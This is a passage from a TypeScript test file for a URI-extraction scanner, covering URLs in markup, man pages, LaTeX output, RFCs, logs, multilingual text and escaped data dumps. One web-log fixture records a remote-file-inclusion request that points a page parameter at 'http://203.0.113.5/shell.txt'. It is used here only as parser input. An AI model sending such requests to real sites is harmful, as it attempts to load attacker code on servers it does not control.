    expectRecordsAtEverySplit(text);
  });

  test("AsciiDoc's link text with attributes, or empty after a fragment, ends the URI; a bracketed word stays the path's or fragment's (peers' suites)", () => {
    const text =
      "See https://x.example/c[Label,window=_blank] now.\n" +
      "https://en.wikipedia.org/wiki/Query_string#URL_encoding[]), the difference\n" +
      "https://example.com/pages/[slug] and https://api.example/items?filter[a=b] ok\n" +
      "http://en.wikipedia.org/wiki/Sprite_[computer_graphics] http://k.example/p?a=1#anchor[bla]\n" +
      // a Javadoc anchor, a hash route's query, a path's list (the review's)
      "see https://docs.oracle.com/javase/7/docs/api/java/util/Arrays.html#toString(int[]) for\n" +
      "https://app.example.com/#/map?center=[51.5,-0.1] and https://example.com/api/items[0,1]\n";
    expect(uris(text)).toEqual([
      "https://x.example/c",
      "https://en.wikipedia.org/wiki/Query_string#URL_encoding",
      "https://example.com/pages/[slug]",
      "https://api.example/items?filter[a=b]",
      "http://en.wikipedia.org/wiki/Sprite_[computer_graphics]",
      "http://k.example/p?a=1#anchor[bla]",
      "https://docs.oracle.com/javase/7/docs/api/java/util/Arrays.html#toString(int[])",
      "https://app.example.com/#/map?center=[51.5,-0.1]",
      "https://example.com/api/items[0,1]",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a Unicode dash inside a Markdown link's destination is the URI's (CommonMark §6.3), not in a sentence nor last", () => {
    const text =
      "[FY](https://en.wikipedia.org/wiki/Fisher–Yates_shuffle) and [s](https://g.example/wiki/save‐to‐cache)\n" +
      "[FY]: https://en.wikipedia.org/wiki/Cauchy–Schwarz\n" +
      "see https://en.wikipedia.org/wiki/Fisher–Yates_shuffle or [x](https://a.example/b—)\n";
    expect(uris(text)).toEqual([
      "https://en.wikipedia.org/wiki/Fisher–Yates_shuffle",
      "https://g.example/wiki/save‐to‐cache",
      "https://en.wikipedia.org/wiki/Cauchy–Schwarz",
      "https://en.wikipedia.org/wiki/Fisher",
      "https://a.example/b",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("Org's =verbatim= and +strike+, AsciiDoc's +passthrough+ and #highlight# around a URI are markup, opened after a blank or '('", () => {
    const text =
      "URLs like =https://cool-blog.com/2017/05/20/cool-post/= are covered\n" +
      "See +https://x.example/o+ here (#https://x.example/r#).\n" +
      "url=https://example.com/search?q= ok\n+https://example.com/c++\n" +
      // a URI's own "++" or "==" after a mark that opened none (the review's)
      "> +https://en.wikipedia.org/wiki/C++\nkey =https://x.example/?sig=YWJjZA==\n" +
      // past a query, the mark follows a pair that has its value; an empty value keeps its "="
      "=https://ex.org/?q=1= and (=https://ex.org/?a=1&b=2=), =https://ex.org/?q= too\n";
    // at the input's start too (the review's)
    expect(uris("=https://ex.org/?q=1= and\n")).toEqual(["https://ex.org/?q=1"]);
    expect(uris(text)).toEqual([
      "https://cool-blog.com/2017/05/20/cool-post/",
      "https://x.example/o",
      "https://x.example/r",
      "https://example.com/search?q=",
      "https://example.com/c++",
      "https://en.wikipedia.org/wiki/C++",
      "https://x.example/?sig=YWJjZA==",
      "https://ex.org/?q=1",
      "https://ex.org/?a=1&b=2",
      "https://ex.org/?q=",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a possessive ’s that ends a URI is the sentence's; an apostrophe inside a path's word stays", () => {
    const text =
      "See https://x.example/d’s page and https://x.example/e’s.\nhttps://x.example/eric-schmidt’s-talk/ https://x.example/l’été\n";
    expect(uris(text)).toEqual([
      "https://x.example/d",
      "https://x.example/e",
      "https://x.example/eric-schmidt’s-talk/",
      "https://x.example/l’été",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a quoted or backticked git-config key whose subsection is a URL: credential. and url. as http. (git-config(1))", () => {
    const text =
      'git config "credential.https://example.com.username" me\n"url.https://x.example/.insteadOf"\n' +
      '`url.https://y.example/.insteadOf` and "URL.https://z.example/b"\n';
    expect(extractText(text).map((f) => [f.uri, f.scheme])).toEqual([
      ["https://example.com", "https"],
      ["https://x.example/", "https"],
      ["https://y.example/", "https"],
      ["https://z.example/b", "https"],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("groff's SGR colours around a hyphenation break (U+2010 at the line's end) take no room: the URI goes on", () => {
    const text =
      "       see \u001b[1mhttps://www.gnu.org/software/libidn/libidn2/man\u2010\u001b[0m\n       \u001b[1mual/\u001b[0m\n" +
      "       connect to \u001b[1mhttps://ver\u2010\u001b[0m\n       \u001b[1msions.gnupg.org \u001b[22mto get\n" +
      "  \u001b[4mhttp://git.savan\u2010\u001b[24m\n  \u001b[4mnah.gnu.org/cgit/bash.git\u001b[24m\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      ["https://www.gnu.org/software/libidn/libidn2/manual/", true],
      ["https://versions.gnupg.org", true],
      ["http://git.savannah.gnu.org/cgit/bash.git", true],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a registered scheme's name that opens a line after a word hyphenated with U+2010 is the word's tail (mailcap(5): 'mail‐' LF 'cap:/usr/…')", () => {
    const text =
      "       $HOME/.mailcap:/etc/mailcap:/usr/share/etc/mail\u2010\n       cap:/usr/local/etc/mailcap -- default\n" +
      "foo \u2010\n  http://x.example/ ok\nword\u2010\r\n  news:comp.lang.c\n" +
      // before "//" a scheme stays one
      "0\u2010\nhttp://example.com/e\n";
    expect(uris(text, { includeInvalid: true })).toEqual([
      "http://x.example/",
      "http://example.com/e",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("--fuzzy: an address or host name that groff hyphenated with U+2010 at a line's end is joined without it", () => {
    const text =
      "       list <netdev@vger.ker\u2010\n       nel.org> where the development\n" +
      "       Mailing list <net\u2010\n       dev@vger.kernel.org> where the\n" +
      '       the full host name such as "ex\u2010\n       ample.org".\n';
    const found = extractText(text, { fuzzy: true });
    expect(found.map((f) => [f.uri, f.wrapped, f.variants])).toEqual([
      ["mailto:netdev@vger.kernel.org", true, []],
      ["mailto:netdev@vger.kernel.org", true, []],
      ["http://example.org", true, []],
    ]);
    const bytes = Buffer.from(text);
    for (let cut = 1; cut < bytes.length; cut++) {
      const got: Found[] = [];
      const sc = new TextScanner({ fuzzy: true }, (f) => got.push(f));
      sc.push(bytes.subarray(0, cut));
      sc.push(bytes.subarray(cut));
      sc.end();
      expect(got, `cut at ${cut}`).toEqual(found);
    }
  });
});

describe("session 37: a URL that LaTeX's url.sty broke, as pdftotext gives it", () => {
  test("after a '/' at a line's end, the next line's first piece — prose may follow it; a short line only when the piece would not have fitted", () => {
    const text =
      "License (LPPL), version 1.3c or later (http://www.latex-project.org/\n" +
      "lppl.txt). The software has the status maintained.\n" +
      "this approach was suggested on Stack Exchange at http://tex.stackexchange.com/questions/\n" +
      "17238/signalling-error-in-expandable-context. It works.\n" +
      "   URL:  https://www.iana.org/assignments/performance-metrics/\n" +
      "   RTDelay_Active_IP-UDP-Periodic_RFC8912sec7_Seconds_95Percentile\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      ["http://www.latex-project.org/lppl.txt", true],
      ["http://tex.stackexchange.com/questions/17238/signalling-error-in-expandable-context", true],
      [
        "https://www.iana.org/assignments/performance-metrics/RTDelay_Active_IP-UDP-Periodic_RFC8912sec7_Seconds_95Percentile",
        true,
      ],
    ]);
    expectRecordsAtEverySplit(text);
    // the URL ends at the break: a date, a word, a host of its own, a shortlog's next entry
    // (one hyphen and more on its line), a short line whose piece would have fitted on it
    for (const t of [
      "The newest version is on the author's web site, http://www.dickimaw-books.com/\n2017-07-10 was the last release of the package\n",
      "Please report bugs and feature requests at http://github.com/wspr/asyfig/\nWhile general feedback is welcome\n",
      "For the examples in this chapter see the website at https://pysdr.org/\nwww.gnuradio.org has the rest of the documentation\n",
      "      howto/using-topic-branches: Recommend public URL git://git.kernel.org/\n      rev-list --objects: fix object list without commit.\n",
      "see https://example.org/\ndocs/a.txt for the rest\n",
    ]) {
      expect(
        extractText(t).map((f) => f.wrapped),
        t,
      ).toEqual([false]);
    }
  });

  test("url.sty's break after any '.' of a host, and at the scheme's ':' before a host alone or an indented '//' (pdftotext -layout)", () => {
    const text =
      "Source code at https://github.\ncom/latex3/hyperref and more.\n" +
      "May 31, 2022. url: https://ctan.\norg/pkg/markdown (visited on 06/26/2022).\n" +
      "For more information see http://www.caam.\nrice.edu/software/ARPACK/.\n" +
      "distributsioon aadressilt http:\n//www.miktex.org. See sisaldab\n" +
      "License, http:\n           //www.gnu.org/licenses/gpl.html\n";
    expect(uris(text)).toEqual([
      "https://github.com/latex3/hyperref",
      "https://ctan.org/pkg/markdown",
      "http://www.caam.rice.edu/software/ARPACK/",
      "http://www.miktex.org",
      "http://www.gnu.org/licenses/gpl.html",
    ]);
    expectRecordsAtEverySplit(text);
    // a sentence's end and a name or a comment on the next line
    for (const t of [
      "see http://example.com.\nrice.edu/x is another\n",
      "see http://www.caam.\nrice.edu is another\n",
      "    For example:\n      //logging.googleapis.com/projects/myproject/logs/x\n",
      "case http:\n    // www.example.org/x is the comment\n",
      "  ftp:\n      //ftp.example.org/pub/x\n",
    ]) {
      expect(
        extractText(t).filter((f) => f.wrapped),
        t,
      ).toEqual([]);
    }
  });

  test("the review's (session 37): a field's name or a title after a '/' that ends the line is no piece of the URL", () => {
    const text =
      "URL:http://www.meetup.com/DevOpsDC/events/47635522/\nLAST-MODIFIED:20120522T174406Z\n" +
      "site_url: https://example-organization.github.io/some-project-name/\nrepo_url: https://github.com/x/y\n" +
      "url = https://gitlab.example.com/some-group/some-subgroup/project/\nconfig_version = 1\n" +
      "    ERROR: HTTP error 404 while getting Not Found for url: https://pypi.org/simple/\n" +
      "pip._internal.exceptions.DistributionNotFound: No matching distribution\n" +
      ".. _cobertura: https://example-organization.github.io/some-project-name/cobertura/\n" +
      "CMAKE_DOTNET_TARGET_FRAMEWORK\n-----------------------------\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      ["http://www.meetup.com/DevOpsDC/events/47635522/", false],
      ["https://example-organization.github.io/some-project-name/", false],
      ["https://github.com/x/y", false],
      ["https://gitlab.example.com/some-group/some-subgroup/project/", false],
      ["https://pypi.org/simple/", false],
      ["https://example-organization.github.io/some-project-name/cobertura/", false],
    ]);
  });

  test("a file name's extension after a '.' that ends the line (indented too), whatever was read before; a fragment's ':' is no field's", () => {
    const t = "available at http://www.latex-project.org/lppl.\ntxt";
    expect(uris(t)).toEqual(["http://www.latex-project.org/lppl.txt"]);
    uris(`x http://example.org/${"a".repeat(71)}/lppl.\ntxt and more\n`);
    expect(uris(t)).toEqual(["http://www.latex-project.org/lppl.txt"]);
    const text =
      "voir http://www.alain.be/Boece/nombres_gargantuesques.\n     html pour\n" +
      "The API is documented at https://docs.example.com/reference/javadoc/api/\n" +
      "Options.html#set:B-) for the rest of it\n" +
      // a command that opens the next line is no extension
      "Fetch it from http://example.com/pub/src.\ntar xzf src.tar.gz\n" +
      "Redirect http://a.example/x->https://b.example/y\n";
    expect(uris(text)).toEqual([
      "http://www.alain.be/Boece/nombres_gargantuesques.html",
      "https://docs.example.com/reference/javadoc/api/Options.html#set:B-",
      "http://example.com/pub/src",
      "http://a.example/x",
      "https://b.example/y",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a host broken after a label's '.', its rest followed by ').' or ')' and sentence punctuation", () => {
    const text =
      "try a library like joPas (http://jopas.\nsourceforge.net).\n" +
      "collection (GCC) should work (https://\ngcc.gnu.org). If you use GCC\n";
    expect(uris(text)).toEqual(["http://jopas.sourceforge.net", "https://gcc.gnu.org"]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 39", () => {
  test("a call through a dotted name with an upper-case member is no manual section: 'icon:String.fromCharCode(1)'", () => {
    const text =
      "o={icon:String.fromCharCode(1),x:Math.max(2),y:foo.Bar(3p)} man:systemd.unit(5) man:XOpenDisplay(3)\n";
    expect(uris(text)).toEqual(["man:systemd.unit(5)", "man:XOpenDisplay(3)"]);
    expectRecordsAtEverySplit(text);
  });

  test("HTML's <wbr> inside a URI in markup read as text takes no room (the HTML hunt)", () => {
    const text =
      "<p>see http://example.com/very<wbr>/long/path<WBR/>/name.html ok</p>\n" +
      "<td>https://example.org/a<wbr />b?q=1</td> http://a.example/x<wbr> next http://b.example/y<wbr><b>z</b>\n";
    expect(uris(text)).toEqual([
      "http://example.com/very/long/path/name.html",
      "https://example.org/ab?q=1",
      "http://a.example/x",
      "http://b.example/y",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("TeX's comment: a '%' that ends a line inside a URL argument takes the line break with it (AMS's BibTeX notes)", () => {
    const text =
      "  note = {\\url{http://mirrors.ctan.org/macros/latex/required/amslatex/math/amsldoc.pd%\nf}},\n" +
      "  \\href{http://a.example/x%20y%\n    /z.pdf}{text} and url = {http://a.example/%41b%\n}\n";
    const found = extractText(text, { includeInvalid: true });
    expect(found.map((f) => [f.uri, f.wrapped])).toEqual([
      ["http://mirrors.ctan.org/macros/latex/required/amslatex/math/amsldoc.pdf", true],
      ["http://a.example/x%20y/z.pdf", true],
      // (a break before the "}" is no break inside the URL)
      ["http://a.example/%41b", false],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a line break after a URI's '-' or '/' before a log's next record, a Java frame or cause is the URI's end (the access-log hunt)", () => {
    const text =
      "1795896351.545 127.0.0.1 - http://www.iana.org/assignments/message-\n1795896351.600 127.0.0.1 - http://www.example.org/\n" +
      '127.0.0.1 [28/Nov/2026:20:01:16 +0000] "GET / HTTP/1.1" 200 ref=http://example.com/foo--\n127.0.0.1 [28/Nov/2026:20:01:17 +0000] "GET / HTTP/1.1" 200\n' +
      "2026-11-28 20:01:15 INFO fetching https://api.example.com/v1/items-\n\tat org.apache.Foo.bar(Foo.java:12)\n" +
      "2026-11-28 20:01:16 INFO fetching https://api.example.com/v1/items-\nCaused by: java.io.IOException\n" +
      "Mozilla/5.0 (compatible; GroupHigh/1.0; +http://www.grouphigh.com/\nMozilla/5.0 (compatible; X/1.0)\n" +
      "I1128 20:01:15.123456    1234 main.go:12] get http://x.example/a-\nI1128 20:01:15.223456    1234 main.go:13] done\n" +
      // a wrapped URI goes on as before, in lines that open alike too (RFC 8509)
      "   see http://www.example.org/draft-\n   ietf-foo-bar.txt for details\n" +
      "   02323.example.com/1x1.gif, and http://root-key-sentinel-not-ta-\n   11112.example.com/1x1.gif).\n";
    expect(uris(text)).toEqual([
      "http://www.iana.org/assignments/message-",
      "http://www.example.org/",
      "http://example.com/foo--",
      "https://api.example.com/v1/items-",
      "https://api.example.com/v1/items-",
      "http://www.grouphigh.com/",
      "http://x.example/a-",
      "http://www.example.org/draft-ietf-foo-bar.txt",
      "http://root-key-sentinel-not-ta-11112.example.com/1x1.gif",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("web logs (the access-log hunt): a request line's target keeps its last punctuation; a User-Agent whose blanks are encoded; IIS's query without its '?'", () => {
    const text =
      '192.168.3.40 - - [15/Apr/2005:11:46:35 +0300] "GET http://mail.yandex.ru/mboxjscript? HTTP/1.0" 200 2262\n' +
      '10.0.0.1 - - [28/Nov/2026:20:00:01 +0000] "GET /index.php?page=http://203.0.113.5/shell.txt? HTTP/1.1" 404 0\n' +
      "see http://example.com/a. HTTP/1.1 is old\n" +
      "2026-11-28 20:00:01 10.0.0.5 GET / - 443 - 203.0.113.10 woriobot++http://worio.com - 200 0 0 46\n" +
      "2026-11-28 20:00:02 10.0.0.5 GET / - 443 - 203.0.113.10 Mozilla/5.0+(compatible;+MSIE+7.0++http://www.europarchive.org) - 200 0 0 46\n" +
      "2026-11-28 20:00:03 10.0.0.5 GET / - 443 - 203.0.113.10 Mozilla/5.0+(compatible;++http://OpenLinkProfiler.org/bot+) - 200 0 0 46\n" +
      "2026-11-28 20:00:04 10.0.0.5 GET / - 443 - 203.0.113.10 Mozilla/5.0+(Windows;++http://feedafever.com;+Allow+like+Gecko) - 200 0 0 46\n" +
      "2026-11-28 20:00:05 10.0.0.5 GET /login.aspx ReturnUrl=https://intranet.example.com/hr/&lang=en 443 - 203.0.113.10 - - 200 0 0 46\n" +
      "2026-11-28\t20:00:06\tLHR62-C2\t200\tGET\td111.cloudfront.net\t/\t200\t-\tMozilla/5.0%20(compatible;%20Lyonl/1.0;%20https://lyonl.com/crawler;%20crawler@lyonl.com)\t-\n" +
      "2026-11-28\t20:00:07\tLHR62-C2\t200\tGET\td111.cloudfront.net\t/\t200\t-\tMozilla/5.0%20(compatible;%20SEOprofiler;%20+http://www.seoprofiler.com/bot%20)\t-\n" +
      // a VCS transport and prose stay as they were (the review's: capitals, blanks encoded)
      "pip install git+https://github.com/a/b and Google+https://plus.google.com/x+y is\n" +
      "PLEASE SEE http://example.com/faq. HTTP/1.0 CLIENTS ARE NOT SUPPORTED. I tried GET http://example.com/a. HTTP/1.1 was used.\n" +
      "Follow+us+on+https://plus.google.com/+GoogleChrome/posts Read%20more%20https://example.com/a%20b/c\n";
    expect(uris(text)).toEqual([
      "http://mail.yandex.ru/mboxjscript?",
      "http://203.0.113.5/shell.txt?",
      "http://example.com/a",
      "http://worio.com",
      "http://www.europarchive.org",
      "http://OpenLinkProfiler.org/bot",
      "http://feedafever.com",
      "https://intranet.example.com/hr/",
      "https://lyonl.com/crawler",
      "http://www.seoprofiler.com/bot",
      "git+https://github.com/a/b",
      "https://plus.google.com/x+y",
      "http://example.com/faq",
      "http://example.com/a",
      "https://plus.google.com/+GoogleChrome/posts",
      "https://example.com/a%20b/c",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a SIP URI whose host is an IPv6 reference is found (RFC 3261 §25.1; the RFC hunt)", () => {
    const text =
      "      Contact: <sip:alice@[2001:db8:9::2]>\n" +
      "   Contact: <sip:+12155550112@[2001:db8::12]:50207;rinstance=9da3088f3>\n" +
      "   INVITE sip:[2001:db8::10]:5070 SIP/2.0\n";
    expect(uris(text)).toEqual([
      "sip:alice@[2001:db8:9::2]",
      "sip:+12155550112@[2001:db8::12]:50207;rinstance=9da3088f3",
      "sip:[2001:db8::10]:5070",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a query broken before its next pair, '&name=' opening the next line (RFC 6749 §4.1.2; the RFC hunt)", () => {
    const text =
      "     HTTP/1.1 302 Found\n     Location: https://client.example.com/cb?code=SplxlOBeZQQYbYS6WxSbIA\n" +
      "               &state=xyz\n               &iss=https%3A%2F%2Fserver.example.com\n\n" +
      // no query, a fragment, or no pair's "=": the line is another's
      "  https://a.example/x?y=1\n  &b is text\nhttps://b.example/x#f\n &c=1\nhttps://c.example/x\n &d=1\n";
    expect(extractText(text).map((f) => [f.uri, f.variants])).toEqual([
      [
        "https://client.example.com/cb?code=SplxlOBeZQQYbYS6WxSbIA&state=xyz&iss=https%3A%2F%2Fserver.example.com",
        ["https://client.example.com/cb?code=SplxlOBeZQQYbYS6WxSbIA"],
      ],
      ["https://a.example/x?y=1", []],
      ["https://b.example/x#f", []],
      ["https://c.example/x", []],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a log line's URI with a query is not held back for the next line (tail -f; the review's)", () => {
    const found: string[] = [];
    const sc = new TextScanner({}, (f) => found.push(f.uri));
    sc.push(Buffer.from("2026-11-28 20:01:15 INFO GET https://api.example.com/v1/items?id=1\n"));
    expect(found).toEqual(["https://api.example.com/v1/items?id=1"]);
    sc.push(Buffer.from("2026-11-28 20:01:16 INFO see https://example.com/a?\n"));
    expect(found).toEqual(["https://api.example.com/v1/items?id=1", "https://example.com/a"]);
    sc.end();
  });

  test("a single-quoted URI broken across lines is joined as a double-quoted one is (RFC 8010's IPP example; the RFC hunt)", () => {
    const text =
      "      \"printer-uri-supported\": 'ipp://printer.example.com/ipp/print/\n      open-use-printer', 'ipp://printer.example.com/ipp/print/\n      restricted-use-printer'\n" +
      // prose inside quotes, and a string literal that ends its line, are not
      "He said 'see http://example.com/a\nand more' ok\nx = 'http://example.com/a/'\n    'b.html'\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      ["ipp://printer.example.com/ipp/print/open-use-printer", true],
      ["ipp://printer.example.com/ipp/print/restricted-use-printer", true],
      ["http://example.com/a", false],
      ["http://example.com/a/", false],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a page break inside <…> under any header line, after '[page N]', or with its form feed lost (older drafts; the RFC hunt)", () => {
    const page = (footer: string, ff: string, header: string) =>
      `        June 1995, <URL:http://www.ietf.org/rfc/\n\n\nFielding                  Expires August 18, 1997             ${footer}\n${ff}${header}\n\n\n       rfc1808.txt>.\n`;
    const text =
      page(
        "[Page 5]",
        "\f\n",
        "INTERNET-DRAFT          Simple HTTP Extensions           February 1997",
      ) +
      page(
        "[Page 6]",
        "\f\n",
        "Internet Draft          URN Syntax                        March 1997",
      ) +
      page(
        "[page 7]",
        "\f",
        "   draft-fielding-url-syntax-05.txt                          May 1997",
      ) +
      page(
        "[Page 8]",
        "\n",
        "VERP SMTP Extension          S. Varshavchik                 March 2001",
      );
    expect(uris(text)).toEqual(Array(4).fill("http://www.ietf.org/rfc/rfc1808.txt"));
    expectRecordsAtEverySplit(text);
    // no footer: a blank line ends the search
    expect(uris("<URL:http://www.ietf.org/rfc/\n\nINTERNET-DRAFT x\n\n rfc1808.txt>")).toEqual([
      "http://www.ietf.org/rfc/",
    ]);
  });

  test("a URI alone on its line broken after a '/': its piece alone on the next line may hold a query's '*' ',' ';' (RFC 8977's RDAP examples)", () => {
    const text =
      "   parameter:\n\n   https://example.com/rdap/\n   domains?name=example*.com&sort=registrationDate:d\n\n" +
      "   https://example.com/rdap/\n   domains?name=example*.com&sort=lockedDate,name\n\n" +
      // not a query's piece, or prose after the URI
      "   https://example.com/rdap/\n   a*b c\n\n   see https://example.com/rdap/ for the\n   list,example*.com&x=1\n";
    expect(uris(text)).toEqual([
      "https://example.com/rdap/domains?name=example*.com&sort=registrationDate:d",
      "https://example.com/rdap/domains?name=example*.com&sort=lockedDate,name",
      "https://example.com/rdap/",
      "https://example.com/rdap/",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a piece after a '/' that ends a short line did not fit with the punctuation glued to it", () => {
    const text =
      '   This section creates a new subregistry, "PNS", under the SIP\n   Parameters registry (https://www.iana.org/assignments/\n   sip-parameters).\n';
    expect(uris(text)).toEqual(["https://www.iana.org/assignments/sip-parameters"]);
    expectRecordsAtEverySplit(text);
  });

  test("a host broken after its scheme's '//' or a label's '.' goes on in a dotted name that a sentence's ':' follows; a field's name is no host", () => {
    const text =
      "Visit http://www.\nexample.com: If you want more, read\n" +
      "Or https://\ngcc.gnu.org: the compiler\n" +
      "see http://www.\nNote: hi\n";
    expect(uris(text)).toEqual(["http://www.example.com", "https://gcc.gnu.org", "http://www"]);
    expectRecordsAtEverySplit(text);
    // after a whole host the next line's "name.name:" is its own (a field, a key)
    expect(uris("see http://example.com\nspring.datasource: x\n")).toEqual(["http://example.com"]);
  });
});

describe("session 40: the world's scripts (the scripts hunt)", () => {
  test("a hard wrap is measured in characters, not bytes: a line of Russian or Greek prose before the URI's line is not 'longer'", () => {
    const text =
      "Принудительно запустить все выбранные торренты в текущей вкладке. См.:\n" +
      "https://www.example.org/documentation/networking/configuration/advanced/prox\n" +
      "y-settings.html\n\n" +
      "Δείτε τη λίστα με όλες τις ρυθμίσεις του διακομιστή μεσολάβησης εδώ:\n" +
      "https://www.example.org/documentation/networking/configuration/advanced/prox\n" +
      "y-settings.html\n";
    expect(uris(text)).toEqual([
      "https://www.example.org/documentation/networking/configuration/advanced/proxy-settings.html",
      "https://www.example.org/documentation/networking/configuration/advanced/proxy-settings.html",
    ]);
    expectRecordsAtEverySplit(text, 7);
    // a longer line before is still longer: 80 Chinese characters
    const wide = `${"详".repeat(80)}\nhttps://www.example.org/documentation/networking/configuration/advanced/prox\ny-settings.html\n`;
    expect(uris(wide)).toEqual([
      "https://www.example.org/documentation/networking/configuration/advanced/prox",
    ]);
  });

  test("an IRI's tail on the next line may hold letters of any script, with a mark other than '-'; a hyphenated word may not", () => {
    const text =
      "Die vollständige Liste der Baudenkmäler findet sich hier, siehe dazu:\n" +
      "https://www.example.de/denkmalschutz/baudenkmaeler/muenchen/altstadt-und-max\n" +
      "vorstadt-süd.html\n\n" +
      "Полный список объектов культурного наследия находится здесь, см.:\n" +
      "https://ru.wikipedia.org/wiki/Список_объектов_культурного_наследия_в_Москве/\n" +
      "центральный_округ\n\n" +
      "Скачать можно по ссылке https://www.example.org/download/latest-release-aaa\n" +
      "кое-где.\n";
    expect(uris(text)).toEqual([
      "https://www.example.de/denkmalschutz/baudenkmaeler/muenchen/altstadt-und-maxvorstadt-süd.html",
      "https://ru.wikipedia.org/wiki/Список_объектов_культурного_наследия_в_Москве/центральный_округ",
      "https://www.example.org/download/latest-release-aaa",
    ]);
    expectRecordsAtEverySplit(text, 5);
  });

  test("a middle dot, katakana middle dot, Armenian comma, Hebrew quotation marks and Arabic ornate parentheses at a URI's end are the text's", () => {
    expect(
      uris(
        "Δείτε https://el.wikipedia.org/wiki/Ελλάδα· και άλλα\n" +
          "서울·부산 https://example.kr/a·https://example.kr/b 참조\n" +
          "参照：https://a.example.jp/・https://b.example.jp/\n" +
          "Մանրամասն՝ https://example.am/docs/՝ որտեղ կա\n" +
          "מידע נוסף ב״https://example.co.il/docs״ כאן\n" +
          "انظر ﴾https://example.com/docs﴿ للمزيد\n",
      ),
    ).toEqual([
      "https://el.wikipedia.org/wiki/Ελλάδα",
      "https://example.kr/a",
      "https://example.kr/b",
      "https://a.example.jp/",
      "https://b.example.jp/",
      "https://example.am/docs/",
      "https://example.co.il/docs",
      "https://example.com/docs",
    ]);
    // inside a URI they stay, and so does a geresh that ends a Hebrew word
    expect(uris("https://he.wikipedia.org/wiki/ספר_מלכים_א׳ ok\n")).toEqual([
      "https://he.wikipedia.org/wiki/ספר_מלכים_א׳",
    ]);
    expect(
      uris(
        "https://ca.wikipedia.org/wiki/Paral·lel i https://ja.wikipedia.org/wiki/レオナルド・ダ・ヴィンチ\n",
      ),
    ).toEqual([
      "https://ca.wikipedia.org/wiki/Paral·lel",
      "https://ja.wikipedia.org/wiki/レオナルド・ダ・ヴィンチ",
    ]);
  });

  test("a Turkish ending after an apostrophe on a path is the sentence's; an apostrophe inside a word stays", () => {
    expect(
      uris(
        "Kaynak kodu şurada: https://github.com/foo/bar'da bulunur.\n" +
          "Ayrıntılar için https://www.gnu.org/licenses/gpl.html’ye bakın.\n" +
          "Bkz. https://example.com.tr/'dan ve https://tr.wikipedia.org/wiki/İstanbul'un\n" +
          "see https://en.wikipedia.org/wiki/McDonald's and https://example.com/rock'n'roll or https://example.com/aujourd'hui\n" +
          // without a letter of Turkish's own on the line, an apostrophe ending is a name's
          "see https://en.wikipedia.org/wiki/Sa'da, https://en.wikipedia.org/wiki/Le_Journal_d'un and https://en.wiktionary.org/wiki/'da\n",
      ),
    ).toEqual([
      "https://github.com/foo/bar",
      "https://www.gnu.org/licenses/gpl.html",
      "https://example.com.tr/",
      "https://tr.wikipedia.org/wiki/İstanbul",
      "https://en.wikipedia.org/wiki/McDonald's",
      "https://example.com/rock'n'roll",
      "https://example.com/aujourd'hui",
      "https://en.wikipedia.org/wiki/Sa'da",
      "https://en.wikipedia.org/wiki/Le_Journal_d'un",
      "https://en.wiktionary.org/wiki/'da",
    ]);
  });

  test("Chinese glued after a common file name's extension is the sentence's; a Han segment, a mixed query value, fragment or name stays", () => {
    expect(
      uris(
        "详见https://example.com/docs/page.html了解更多\n" +
          "见 https://zh.wikipedia.org/wiki/中文 和 https://example.com/s?wd=iPhone手机 与 https://example.com/v1.2版本\n" +
          "(http://bücher.テスト#a語) https://example.com/docs/#install了解 https://example.com/a.b語 https://example.com/a.html语\n",
      ),
    ).toEqual([
      "https://example.com/docs/page.html",
      "https://zh.wikipedia.org/wiki/中文",
      "https://example.com/s?wd=iPhone手机",
      "https://example.com/v1.2版本",
      "http://bücher.テスト#a語",
      "https://example.com/docs/#install了解",
      "https://example.com/a.b語",
      "https://example.com/a.html语",
    ]);
  });
});

describe("session 40: dumps and exports (the dumps hunt)", () => {
  test("JSON text written by a format that doubles backslashes: '\\\\uXXXX' anywhere, a doubled surrogate pair, and a doubled line break before a registered scheme", () => {
    const text =
      // PostgreSQL's COPY of a post holding Gutenberg's block JSON
      '12\t<!-- wp:embed {"url":"https://gcc.gnu.org/bugzilla/buglist.cgi?bug_status=RESOLVED\\\\u0026resolution=FIXED"} -->\n' +
      // a JSON column written with ensure_ascii, then escaped again
      '{"meta": "{\\"source\\": \\"https://example.com/emoji/\\\\ud83d\\\\ude00/smile\\", \\"views\\": 822}"}\n' +
      // json_build_object through COPY: "\\r\\n" then "ftp://"; "\\\\nfs://" stays NFS
      '{"comment" : "Link:\\\\r\\\\nftp://xmlsoft.org/contribs/\\\\r\\\\nThanks!"}\n' +
      "mount \\\\nfs://server/export\n";
    expect(uris(text)).toEqual([
      "https://gcc.gnu.org/bugzilla/buglist.cgi?bug_status=RESOLVED&resolution=FIXED",
      "https://example.com/emoji/😀/smile",
      "ftp://xmlsoft.org/contribs/",
      "nfs://server/export",
    ]);
    expectRecordsAtEverySplit(text, 3);
  });

  test("Python's and YAML's eight-digit '\\U' escape is read; a Windows path's '\\Users' is not one", () => {
    expect(
      uris(
        '- body: "see https://example.com/emoji/\\U0001F600/smile\\r\\nthanks"\n' +
          "file:///C:\\Users\\me\\x.txt\n",
        { includeInvalid: true },
      ),
    ).toEqual(["https://example.com/emoji/😀/smile", "file:///C:\\Users\\me\\x.txt"]);
  });

  test("an escaped apostrophe closes no string that a double quote opened; '&apos;' is read as \"'\"", () => {
    expect(
      uris(
        '{"guid":"https://www.example.com/o\\u0027reilly/books?author=o\\u0027brien"}\n' +
